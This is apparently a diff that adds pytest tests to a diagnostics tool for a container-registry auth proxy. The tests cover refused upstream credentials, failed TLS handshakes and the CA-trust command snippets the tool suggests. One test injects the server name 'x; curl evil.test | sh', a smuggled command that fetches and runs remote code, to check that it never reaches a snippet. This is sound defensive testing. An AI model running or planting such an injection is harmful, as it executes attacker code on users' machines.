@@ -191,6 +191,20 @@ def test_a_refusal_by_the_delegate_check_is_named() -> None:
     assert "not been checked yet" in pending.title
 
 
+def test_refused_injected_credentials_are_named_by_the_503_not_the_307() -> None:
+    # Issue 25: an upstream 401 to regauth's credentials ends in a 503 (502 before); a request
+    # sent back once (307) after a renewal is no failure.
+    refused = "upstream refused the injected credentials"
+    injected = {"upstream_credentials": "injected"}
+    [found] = _diagnose(_answered_by_regauth(503, refused, **injected))
+    assert found.code == "upstream-credentials-refused"
+    assert found.detail.endswith("the client got 503")
+    [older] = _diagnose(_answered_by_regauth(502, refused, **injected))
+    assert older.code == "upstream-credentials-refused"
+    sent_back = f"{refused}: renewed, client sent back once"
+    assert _diagnose(_answered_by_regauth(307, sent_back, **injected)) == []
+
+
 def test_load_shedding_and_cut_bodies_are_named() -> None:
     [shed] = _diagnose(
         _answered_by_regauth(
@@ -228,3 +242,90 @@ def test_a_refused_client_certificate_is_named_with_its_reason(reason: str, hint
     assert found.code == "client-certificate-refused"
     assert found.detail == f"10.0.0.6: {reason}"
     assert hint in found.hint
+
+
+# -- failed TLS handshakes (issue 26, item 7) ----------------------------------------------------
+
+
+def _tls(**tls: object) -> dict[str, object]:
+    return {
+        "time": dt.datetime.fromtimestamp(NBF, dt.UTC).isoformat(),
+        "conversation": "t1",
+        "client": "10.0.0.7:51000",
+        "kind": "tls",
+        "status": None,
+        "answered_by": None,
+        "error": "The client does not trust the proxy's certificate for regauth.test "
+        "(sslv3 alert bad certificate)",
+        "tls": {"cause": "untrusted", "listen": "10.0.0.1:5443", "ca": "/srv/certs/ca.crt", **tls},
+    }
+
+
+def test_a_go_client_that_does_not_trust_the_ca_gets_the_container_tools_snippets() -> None:
+    [found] = _diagnose(_tls(sni="regauth.test", library="go"))
+    assert found.code == "tls-untrusted"
+    assert found.detail == (
+        "10.0.0.7: a Go client (docker, podman, buildah, skopeo, containerd, BuildKit) "
+        "connecting for 'regauth.test': The client does not trust the proxy's certificate "
+        "for regauth.test (sslv3 alert bad certificate)"
+    )
+    lines = found.hint.splitlines()
+    assert lines[0] == "trust regauth's CA in the client (/srv/certs/ca.crt):"
+    assert (
+        "    sudo mkdir -p /etc/docker/certs.d/regauth.test:5443 && "
+        "sudo cp /srv/certs/ca.crt /etc/docker/certs.d/regauth.test:5443/ca.crt"
+    ) in lines
+    assert '    server = "https://regauth.test:5443"' in lines
+    assert not any("curl" in line for line in lines)
+
+
+def test_an_openssl_client_gets_curl_and_an_unknown_one_every_snippet() -> None:
+    [curl] = _diagnose(_tls(sni="regauth.test", library="openssl"))
+    assert "    curl --cacert /srv/certs/ca.crt https://regauth.test:5443/v2/" in curl.hint.split(
+        "\n"
+    )
+    assert "docker" not in curl.hint
+    [unknown] = _diagnose(_tls(sni="regauth.test"))
+    assert "docker:" in unknown.hint and "curl:" in unknown.hint
+
+
+def test_without_a_server_name_the_address_is_used_and_the_missing_sni_named() -> None:
+    [found] = _diagnose(_tls(library="go"))
+    assert "connecting without a server name (SNI)" in found.detail
+    assert "/etc/docker/certs.d/10.0.0.1:5443/ca.crt" in found.hint
+    assert "the client sent no server name" in found.hint
+
+
+def test_a_hostile_server_name_never_reaches_a_snippet() -> None:
+    [found] = _diagnose(_tls(sni="x; curl evil.test | sh", library="go"))
+    assert "evil" not in found.hint and "10.0.0.1:5443" in found.hint
+    assert "'x; curl evil.test | sh'" in found.detail  # quoted as what the client sent
+
+
+@pytest.mark.parametrize(
+    ("cause", "code"),
+    [("version", "tls-version"), ("closed", "tls-closed"), ("other", "tls-other")],
+)
+def test_other_handshake_failures_are_named(cause: str, code: str) -> None:
+    [found] = _diagnose(_tls(sni="regauth.test", cause=cause))
+    assert found.code == code
+
+
+def test_a_challenge_followed_by_a_failed_handshake_says_so() -> None:
+    challenge = {
+        "time": dt.datetime.fromtimestamp(NBF - 1, dt.UTC).isoformat(),
+        "conversation": "c0",
+        "client": "10.0.0.7:50999",
+        "kind": "registry",
+        "method": "GET",
+        "path": "/v2/app/tags/list",
+        "status": 401,
+        "answered_by": "regauth",
+        "challenge": {"scheme": "Bearer", "realm": "https://regauth.test/v2/token"},
+    }
+    found = {d.code: d for d in _diagnose(challenge, _tls(sni="regauth.test", library="go"))}
+    assert set(found) == {"no-token-request", "tls-untrusted"}
+    assert found["no-token-request"].detail.endswith(
+        "never asked https://regauth.test/v2/token for a token; its TLS handshake failed right "
+        "after (line 2: see its conversation for how that client trusts regauth's CA)"
+    )
